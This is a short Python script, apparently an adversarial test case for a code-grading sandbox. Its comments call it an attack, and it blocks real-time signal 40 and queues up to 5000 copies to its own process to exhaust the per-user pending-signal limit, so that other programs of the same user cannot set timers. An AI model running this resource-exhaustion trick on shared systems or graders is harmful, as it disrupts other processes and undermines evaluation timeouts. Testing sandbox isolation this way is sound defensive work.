# attack: queue signals for oneself until no program of the same user can set a timer
# place: way1_numpy first
# expect: graded 0
# ruff: noqa
import ctypes
import os
import signal

libc = ctypes.CDLL(None, use_errno=True)
signal.pthread_sigmask(signal.SIG_BLOCK, {40})
n_queued = 0
while n_queued < 5000 and libc.sigqueue(os.getpid(), 40, None) == 0:
    n_queued += 1
print(n_queued, "REA" + "CHED" if n_queued >= 5000 else "")
